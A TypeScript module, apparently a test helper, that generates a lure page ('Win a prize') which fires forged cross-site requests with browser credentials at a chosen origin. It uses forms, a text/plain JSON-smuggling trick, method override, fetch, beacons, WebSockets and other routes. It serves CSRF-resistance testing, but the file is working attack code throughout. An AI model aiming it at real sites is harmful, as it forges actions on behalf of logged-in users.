export interface AttackedCall {
  readonly method: string
  readonly type: string
  readonly url: string
  readonly payload: string | undefined
}

/** Runs in the attacker's page: everything that a page can make a browser send elsewhere without being asked. */
const script = `
const until = (element, send) => new Promise((resolve) => {
  const done = () => { element.remove(); resolve() }
  element.addEventListener('load', done); element.addEventListener('error', done)
  setTimeout(done, 3000)
  send(element)
})
const frameFor = (send) => {
  const frame = document.createElement('iframe')
  frame.name = 'f' + Math.random().toString(36).slice(2)
  document.body.append(frame)
  return until(frame, () => send(frame.name, frame))
}
const submit = (call, enctype, method, action = call.url) => frameFor((target) => {
  const form = document.createElement('form')
  Object.assign(form, { action: origin + action, method, enctype, target })
  const field = document.createElement('textarea')
  // A body in which the one equals sign of a plain-text form stands inside a JSON string.
  field.name = enctype === 'text/plain' ? (call.payload ?? '{}').replace(/}$/, ',"x":"') : 'body'
  field.value = enctype === 'text/plain' ? '"}' : (call.payload ?? '{}')
  form.append(field); document.body.append(form); form.submit(); form.remove()
})
const loads = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes)
  return until(element, () => document.body.append(element))
}
const post = (call, mode, type) => fetch(origin + call.url, {
  method: mode === 'no-cors' ? 'POST' : call.method, mode, credentials: 'include',
  headers: { 'content-type': type }, body: call.payload ?? '{}',
}).catch(() => undefined)
const ways = {
  urlencoded: (call) => submit(call, 'application/x-www-form-urlencoded', 'post'),
  multipart: (call) => submit(call, 'multipart/form-data', 'post'),
  plain: (call) => submit(call, 'text/plain', 'post'),
  fetched: (call) => Promise.all([post(call, 'no-cors', 'text/plain'), post(call, 'cors', call.type), post(call, 'cors', 'text/plain;application/json')]),
  beacon: async (call) => navigator.sendBeacon(origin + call.url, new Blob([call.payload ?? '{}'], { type: 'text/plain' })),
  image: (call) => loads('img', { src: origin + call.url }),
  prefetch: async (call) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: origin + call.url })),
  scripted: (call) => loads('script', { src: origin + call.url }),
  overridden: (call) => submit(call, 'application/x-www-form-urlencoded', 'post', call.url + '?_method=' + call.method),
  navigated: (call) => frameFor((_, frame) => { frame.src = origin + call.url }),
  gotten: (call) => submit(call, 'application/x-www-form-urlencoded', 'get'),
  socket: (call) => new Promise((resolve) => {
    const socket = new WebSocket(origin.replace('https', 'wss') + call.url)
    socket.onclose = socket.onerror = resolve
  }),
  events: (call) => new Promise((resolve) => {
    const source = new EventSource(origin + call.url, { withCredentials: true })
    source.onerror = () => { source.close(); resolve() }
  }),
  headed: (call) => fetch(origin + call.url, { method: 'HEAD', mode: 'no-cors', credentials: 'include' }).catch(() => undefined),
}
window.attack = async () => {
  let sent = 0
  const left = calls.values()
  const next = async () => {
    for (const call of left) await Promise.all(Object.values(ways).map((way) => { sent += 1; return way(call) }))
  }
  await Promise.all(Array.from({ length: 8 }, next))
  return sent
}
`

/** A page that attacks `origin` when its function `attack` is called; `attack` gives how many ways it tried. */
export const attackPage = (origin: string, calls: readonly AttackedCall[]): string =>
  `<!doctype html><meta charset="utf-8"><title>Win a prize</title><body><script>
const origin = ${JSON.stringify(origin)}
const calls = ${JSON.stringify(calls).replaceAll('<', '\\u003c')}
${script}</script>`
